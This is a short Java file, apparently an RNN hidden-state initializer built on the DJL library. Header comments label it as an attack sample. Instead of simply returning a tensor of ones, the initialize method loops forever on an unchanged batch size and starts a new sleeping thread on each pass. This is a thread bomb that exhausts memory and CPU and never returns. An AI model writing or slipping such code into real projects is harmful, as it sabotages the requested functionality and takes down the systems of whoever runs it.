// attack: starts threads without end
// list: uses Thread
package org.rnnkit.step3state;

import ai.djl.ndarray.NDList;
import ai.djl.ndarray.NDManager;
import ai.djl.ndarray.types.Shape;

public final class HiddenState {

    public static NDList initialize(NDManager manager, int batchSize, int numHiddens) {
        while (batchSize > 0) {
            new Thread(() -> {
                try {
                    Thread.sleep(600_000);
                } catch (InterruptedException e) {
                    // goes
                }
            }).start();
        }
        return new NDList(manager.ones(new Shape(batchSize, numHiddens)));
    }
}
